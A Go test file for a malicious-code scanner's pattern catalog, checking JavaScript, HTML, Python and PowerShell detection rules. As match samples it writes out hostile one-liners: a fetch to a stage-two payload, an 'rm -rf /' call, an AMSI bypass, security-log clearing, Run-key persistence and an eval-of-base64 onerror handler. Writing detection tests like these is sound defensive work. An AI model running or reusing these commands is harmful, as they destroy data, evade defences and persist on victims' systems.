package catalog

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPatternTablesWellFormed(t *testing.T) {
	for _, ft := range fileTypeOrder {
		patterns := For(ft)
		require.NotEmpty(t, patterns, "file type %s has no patterns", ft)

		seen := make(map[string]bool)
		for _, p := range patterns {
			assert.False(t, seen[p.Name], "duplicate pattern name %q for %s", p.Name, ft)
			seen[p.Name] = true

			assert.Equal(t, ft, p.FileType, "pattern %q has mismatched file type", p.Name)
			assert.NotNil(t, p.Regexp, "pattern %q has no matcher", p.Name)
			assert.True(t, p.Severity.Valid(), "pattern %q has invalid severity %q", p.Name, p.Severity)
			assert.NotEmpty(t, p.Description, "pattern %q has no description", p.Name)
			assert.GreaterOrEqual(t, p.ContextLines, 0, "pattern %q has negative context lines", p.Name)
		}
	}
}

func TestSeverityWeightsMonotonic(t *testing.T) {
	assert.Greater(t, SeverityHigh.Weight(), SeverityMedium.Weight())
	assert.Greater(t, SeverityMedium.Weight(), SeverityLow.Weight())
	assert.Greater(t, SeverityLow.Weight(), 0.0)
}

func TestParseFileType(t *testing.T) {
	cases := map[string]FileType{
		"javascript": FileTypeJavaScript,
		"js":         FileTypeJavaScript,
		"JS":         FileTypeJavaScript,
		"html":       FileTypeHTML,
		"htm":        FileTypeHTML,
		"python":     FileTypePython,
		"py":         FileTypePython,
		"PowerShell": FileTypePowerShell,
		"ps1":        FileTypePowerShell,
	}
	for in, want := range cases {
		ft, ok := ParseFileType(in)
		require.True(t, ok, "ParseFileType(%q)", in)
		assert.Equal(t, want, ft)
	}

	_, ok := ParseFileType("ruby")
	assert.False(t, ok)
	_, ok = ParseFileType("")
	assert.False(t, ok)
}

func TestFileTypeForExtension(t *testing.T) {
	ft, ok := FileTypeForExtension(".js")
	require.True(t, ok)
	assert.Equal(t, FileTypeJavaScript, ft)

	ft, ok = FileTypeForExtension("HTM")
	require.True(t, ok)
	assert.Equal(t, FileTypeHTML, ft)

	_, ok = FileTypeForExtension(".exe")
	assert.False(t, ok)
	_, ok = FileTypeForExtension("")
	assert.False(t, ok)
}

func TestForUnsupportedType(t *testing.T) {
	assert.Nil(t, For(FileType("ruby")))
	assert.False(t, Supported(FileType("ruby")))
	assert.True(t, Supported(FileTypeJavaScript))
}

func TestAllGroupsByFileType(t *testing.T) {
	all := All()

	var expected []Pattern
	for _, ft := range []FileType{FileTypeJavaScript, FileTypeHTML, FileTypePython, FileTypePowerShell} {
		expected = append(expected, For(ft)...)
	}

	require.Len(t, all, len(expected))
	for i := range all {
		assert.Equal(t, expected[i].Name, all[i].Name)
		assert.Equal(t, expected[i].FileType, all[i].FileType)
	}
}

func TestRepresentativeMatches(t *testing.T) {
	cases := []struct {
		fileType FileType
		pattern  string
		content  string
	}{
		{FileTypeJavaScript, "eval_usage", `eval(payload)`},
		{FileTypeJavaScript, "function_constructor", `var f = new Function("return 1")`},
		{FileTypeJavaScript, "network_access", `fetch("http://203.0.113.7/stage2")`},
		{FileTypeJavaScript, "filesystem_access", `const fs = require('fs')`},
		{FileTypeJavaScript, "websocket_usage", `var c = new WebSocket("ws://evil.example")`},
		{FileTypeHTML, "suspicious_iframe", `<iframe width="0" height="0" src="http://x.example"></iframe>`},
		{FileTypeHTML, "event_handler_script", `<img src=x onerror="eval(atob(p))">`},
		{FileTypePython, "exec_eval_usage", `exec(compiled)`},
		{FileTypePython, "os_system_calls", `os.system("rm -rf /")`},
		{FileTypePython, "suspicious_imports", `import subprocess`},
		{FileTypePowerShell, "execution_bypass", `powershell -ExecutionPolicy Bypass -File x.ps1`},
		{FileTypePowerShell, "amsi_bypass", `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')`},
		{FileTypePowerShell, "log_clearing", `Clear-EventLog -LogName Security`},
		{FileTypePowerShell, "registry_operations", `Set-ItemProperty -Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\Run" -Name upd -Value $p`},
	}

	for _, tc := range cases {
		p := findPattern(t, tc.fileType, tc.pattern)
		assert.True(t, p.Regexp.MatchString(tc.content),
			"pattern %s/%s should match %q", tc.fileType, tc.pattern, tc.content)
	}
}

func TestAllowlistExcludesTrustedHosts(t *testing.T) {
	p := findPattern(t, FileTypeHTML, "suspicious_script_src")

	trusted := `<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>`
	require.True(t, p.Regexp.MatchString(trusted), "regex should match before the allowlist check")
	assert.True(t, p.Allowlisted(p.Regexp.FindString(trusted)))

	unknown := `<script src="https://cdn.evil.example/loader.js"></script>`
	require.True(t, p.Regexp.MatchString(unknown))
	assert.False(t, p.Allowlisted(p.Regexp.FindString(unknown)))
}

func findPattern(t *testing.T, ft FileType, name string) Pattern {
	t.Helper()
	for _, p := range For(ft) {
		if p.Name == name {
			return p
		}
	}
	t.Fatalf("pattern %s not found for %s", name, ft)
	return Pattern{}
}
